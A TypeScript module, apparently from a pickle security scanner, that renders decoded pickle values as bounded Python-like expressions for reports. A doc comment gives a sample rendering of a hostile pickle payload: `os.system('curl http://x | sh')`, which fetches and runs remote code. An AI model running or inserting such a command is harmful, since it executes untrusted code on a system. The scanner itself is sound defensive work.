import type { PickleValue } from "./values.js";

/** Bounds of a rendering; a hostile pickle must not make the report huge. */
export interface RenderOptions {
  /** Longest expression, in characters, before it is cut with `…`. */
  maxLength?: number;
  /** Deepest nesting rendered. */
  maxDepth?: number;
  /** Most items rendered per container. */
  maxItems?: number;
  /** Longest string literal rendered. */
  maxString?: number;
  /** Most values visited in one rendering (the rest render as `…`): bounds the time per rendering. */
  maxNodes?: number;
}

const DEFAULTS: Required<RenderOptions> = { maxLength: 240, maxDepth: 4, maxItems: 6, maxString: 80, maxNodes: 256 };

// Values the current rendering may still visit (render is synchronous and not re-entered).
let nodesLeft = 0;

/** Python repr of a str, cut to `max` characters. */
export function pyRepr(s: string, max = 80): string {
  const cut = s.length > max ? s.slice(0, max) : s;
  let out = "'";
  for (const ch of cut) {
    const c = ch.codePointAt(0)!;
    if (ch === "'" || ch === "\\") out += "\\" + ch;
    else if (ch === "\n") out += "\\n";
    else if (ch === "\r") out += "\\r";
    else if (ch === "\t") out += "\\t";
    else if (c < 0x20 || c === 0x7f) out += "\\x" + c.toString(16).padStart(2, "0");
    else out += ch;
  }
  return out + (s.length > max ? "…'" : "'");
}

function bytesRepr(head: Uint8Array, length: number, max: number): string {
  let out = "b'";
  const n = Math.min(head.length, max);
  for (let i = 0; i < n; i++) {
    const c = head[i]!;
    if (c === 0x27 || c === 0x5c) out += "\\" + String.fromCharCode(c);
    else if (c >= 0x20 && c < 0x7f) out += String.fromCharCode(c);
    else out += "\\x" + c.toString(16).padStart(2, "0");
  }
  return out + (length > n ? `…' (${length} bytes)` : "'");
}

/** Dotted name of a global or a call's callable, as Python would spell it. */
export function calleeName(v: PickleValue, o: RenderOptions = {}): string {
  return render(v, o);
}

/**
 * Renders a symbolic value as a short Python-like expression:
 * `os.system('curl http://x | sh')`, `getattr(builtins.__import__('os'), 'system')`.
 */
export function render(v: PickleValue, options: RenderOptions = {}): string {
  const o = { ...DEFAULTS, ...options };
  nodesLeft = o.maxNodes;
  const s = go(v, o, 0);
  return s.length > o.maxLength ? s.slice(0, o.maxLength - 1) + "…" : s;
}

function list(items: PickleValue[], count: number, o: Required<RenderOptions>, depth: number): string {
  const shown = items.slice(0, o.maxItems).map((x) => go(x, o, depth + 1));
  if (count > shown.length) shown.push(`…+${count - shown.length}`);
  return shown.join(", ");
}

function go(v: PickleValue, o: Required<RenderOptions>, depth: number): string {
  if (v === null) return "None";
  if (v === true) return "True";
  if (v === false) return "False";
  if (typeof v === "number" || typeof v === "bigint") return String(v);
  if (typeof v === "string") return pyRepr(v, o.maxString);
  if (depth > o.maxDepth || --nodesLeft < 0) return "…";
  switch (v.kind) {
    case "float":
      return Number.isInteger(v.value) ? v.value.toFixed(1) : String(v.value);
    case "bytes":
      return (v.type === "bytearray" ? "bytearray(" : "") + bytesRepr(v.head, v.length, o.maxString) + (v.type === "bytearray" ? ")" : "");
    case "longstr":
      return pyRepr(v.prefix, o.maxString) + ` (${v.byteLength} bytes)`;
    case "tuple":
      return v.count === 1 ? `(${list(v.items, v.count, o, depth)},)` : `(${list(v.items, v.count, o, depth)})`;
    case "list":
      return `[${list(v.items, v.count, o, depth)}]`;
    case "set":
      return v.count === 0 ? (v.frozen ? "frozenset()" : "set()") : `${v.frozen ? "frozenset(" : ""}{${list(v.items, v.count, o, depth)}}${v.frozen ? ")" : ""}`;
    case "dict": {
      const parts: string[] = [];
      for (let i = 0; i < v.keys.length && i < o.maxItems; i++) parts.push(`${go(v.keys[i]!, o, depth + 1)}: ${go(v.values[i]!, o, depth + 1)}`);
      if (v.count > parts.length) parts.push(`…+${v.count - parts.length}`);
      return `{${parts.join(", ")}}`;
    }
    case "global":
      return `${v.module}.${v.name}`;
    case "call": {
      const callee = go(v.callee, o, depth + 1);
      const args = list(v.args, v.args.length, o, depth);
      switch (v.callKind) {
        case "build":
          return `${callee}.__setstate__(${args})`;
        case "newobj":
        case "newobj_ex": {
          const kw = v.kwargs !== undefined && !(typeof v.kwargs === "object" && v.kwargs !== null && v.kwargs.kind === "dict" && v.kwargs.count === 0) ? `, **${go(v.kwargs, o, depth + 1)}` : "";
          return `${callee}.__new__(${callee}${args ? ", " + args : ""}${kw})`;
        }
        case "persistent_load":
          return `persistent_load(${args})`;
        case "method":
          return `${callee}.${v.method ?? "?"}(${args})`;
        default:
          return `${callee}(${args})`;
      }
    }
    case "persistent":
      return `persistent_load(${go(v.pid, o, depth + 1)})`;
    case "extension":
      return `copyreg._extension_registry[${v.code}]`;
    case "buffer":
      return "<out-of-band buffer>";
    case "unknown":
      return `<${v.why}>`;
  }
}
